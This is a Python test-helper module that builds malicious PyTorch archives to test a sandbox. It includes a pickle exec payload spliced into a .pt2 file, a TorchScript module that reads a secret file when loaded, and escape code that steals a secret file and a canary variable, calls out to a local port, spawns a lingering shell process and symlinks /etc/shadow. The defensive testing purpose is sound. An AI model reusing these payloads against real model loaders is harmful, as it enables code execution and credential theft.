"""Code archives that run code when they are opened, built by the tests, as a hostile tester built them.

A torch.export archive whose weights config says ``use_pickle`` makes torch unpickle bytes the file controls:
any Python. A TorchScript module's ``__setstate__`` runs when the archive is loaded, and ``torch.from_file``
reads any file into a tensor.
"""

from __future__ import annotations

import inspect
import io
import json
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

__all__ = [
    "clean_pt2",
    "escape_code",
    "observe",
    "probe_code",
    "pt2_pickle_payload",
    "pt2_with_code",
    "torchscript_payload",
]


def escape_code(secret_file: Path, outside_file: Path, port: int, marker: Path, other_session: Path, loot: Path) -> str:
    """Python that tries everything a sandbox must stop and writes whatever it stole to ``loot`` (in the job's own
    folder, where an attacker would pick it up with the results), then fails the load."""
    return textwrap.dedent(
        f"""
        import os, socket, subprocess
        stolen = [os.environ.get("WORKBENCH_TEST_CANARY", "")]
        for attempt in (lambda: open({str(secret_file)!r}).read(),
                        lambda: " ".join(os.listdir({str(other_session)!r}))):
            try:
                stolen.append(attempt())
            except Exception:
                pass
        try:
            open({str(outside_file)!r}, "w").write("escaped")
        except Exception:
            pass
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"escaped")
        except Exception:
            pass
        try:  # a process that outlives the job, and says so two seconds later
            subprocess.Popen(["/bin/sh", "-c", "sleep 2; echo survived > {marker}"], start_new_session=True)
        except Exception:
            pass
        open({str(loot)!r}, "w").write("STOLEN[" + "|".join(stolen) + "]")
        raise RuntimeError("done")
        """
    )


class _Exec:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str, dict[str, object]]]:
        return exec, (self.code, {})  # its own globals, so that its functions see its names


def clean_pt2(folder: Path) -> Path:
    """A real .pt2 of a tiny model (torch.export), to turn into payloads with ``pt2_with_code``."""
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.lin(x)

    folder.mkdir(parents=True, exist_ok=True)
    clean = folder / "clean.pt2"
    torch.export.save(torch.export.export(Tiny(), (torch.randn(1, 4),)), str(clean))
    return clean


def pt2_with_code(clean: Path, evil: Path, code: str) -> Path:
    """``clean`` (a .pt2) written to ``evil`` with its first weight switched to a pickle that runs ``code``."""
    import torch

    evil.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(clean) as src, zipfile.ZipFile(evil, "w") as dst:
        config_name = next(n for n in src.namelist() if n.endswith("weights/model_weights_config.json"))
        config = json.loads(src.read(config_name))
        entry = next(iter(config["config"].values()))
        entry["use_pickle"] = True
        weight_name = config_name.rsplit("/", 1)[0] + "/" + entry["path_name"]
        buffer = io.BytesIO()
        torch.save(_Exec(code), buffer)
        for item in src.infolist():
            if item.filename == config_name:
                dst.writestr(item, json.dumps(config))
            elif item.filename == weight_name:
                dst.writestr(item, buffer.getvalue())
            else:
                dst.writestr(item, src.read(item.filename))
    return evil


def pt2_pickle_payload(folder: Path, code: str) -> Path:
    """A real .pt2 of a tiny model whose first weight is switched to a pickle that runs ``code``."""
    clean = clean_pt2(folder)
    evil = pt2_with_code(clean, folder / "model.pt2", code)
    clean.unlink()
    return evil


def observe(place: str) -> str | list[str]:
    """What a process sees at ``place``: a folder's names, a file's first bytes (hex), or the error's name.
    The same function runs in the payload (``probe_code``), so the test compares like with like."""
    import errno
    import os

    try:
        if os.path.isdir(place):
            return sorted(os.listdir(place))
        with open(place, "rb") as fh:
            return fh.read(64).hex()
    except OSError as exc:
        return "error:" + errno.errorcode.get(exc.errno or 0, str(exc.errno))


def probe_code(places: list[str], out: Path, archive: Path) -> str:
    """Python that looks at each of ``places`` and leaves, among its results in ``out``, a link to a file, a link
    to a folder, a named pipe, a link in a subfolder and hard links to its own archive and to a file of Python;
    it writes what it saw and which of those it could make to ``out/seen.json``, then fails the load."""
    body = textwrap.dedent(
        f"""
        import errno, json, os
        OUT = {str(out)!r}
        seen = {{place: observe(place) for place in {places!r}}}
        os.makedirs(OUT + "/sub", exist_ok=True)
        attempts = {{
            "shadow.onnx": lambda: os.symlink("/etc/shadow", OUT + "/shadow.onnx"),
            "etc": lambda: os.symlink("/etc", OUT + "/etc"),
            "pipe": lambda: os.mkfifo(OUT + "/pipe"),
            "sub/model.onnx": lambda: os.symlink("/etc/passwd", OUT + "/sub/model.onnx"),
            "archive": lambda: os.link({str(archive)!r}, OUT + "/archive"),
            "python": lambda: os.link(os.__file__, OUT + "/python"),
        }}
        made = {{}}
        for name, attempt in attempts.items():
            try:
                attempt()
                made[name] = "made"
            except OSError as exc:
                made[name] = errno.errorcode.get(exc.errno or 0, "?")
        open(OUT + "/seen.json", "w").write(json.dumps({{"seen": seen, "made": made}}))
        raise RuntimeError("done")
        """
    )
    return inspect.getsource(observe) + body


_TORCHSCRIPT = """
import sys
import torch


class Thief(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.stolen = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self):
        return (self.stolen, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.training = state[1]
        self.stolen = torch.from_file(SECRET, False, SIZE, dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.stolen.float().sum()


torch.jit.save(torch.jit.script(Thief()), sys.argv[1])
"""


def torchscript_payload(folder: Path, secret_file: Path) -> Path:
    """A TorchScript archive whose __setstate__ reads ``secret_file`` into its weights when it is loaded
    (TorchScript takes no globals, so the path is written into the source)."""
    folder.mkdir(parents=True, exist_ok=True)
    script = folder / "make_thief.py"
    size = secret_file.stat().st_size
    script.write_text(_TORCHSCRIPT.replace("SECRET", repr(str(secret_file))).replace("SIZE", str(size)))
    target = folder / "thief.pt"
    subprocess.run([sys.executable, str(script), str(target)], check=True, capture_output=True, timeout=120)
    script.unlink()
    return target
